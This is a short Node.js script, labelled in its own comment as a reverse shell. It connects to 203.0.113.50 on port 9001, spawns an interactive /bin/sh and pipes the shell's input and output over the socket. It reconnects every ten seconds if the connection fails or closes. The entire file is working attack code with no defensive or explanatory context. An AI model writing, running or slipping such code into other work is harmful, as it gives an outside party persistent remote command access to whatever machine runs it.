// Opens a TCP connection to 203.0.113.50:9001 and pipes it into a spawned /bin/sh (reverse shell).
const net = require("net");
const { spawn } = require("child_process");

function connect() {
  const client = new net.Socket();
  client.connect(9001, "203.0.113.50", () => {
    const sh = spawn("/bin/sh", ["-i"]);
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
    sh.on("exit", () => client.destroy());
  });
  client.on("error", () => setTimeout(connect, 10000));
  client.on("close", () => setTimeout(connect, 10000));
}

connect();
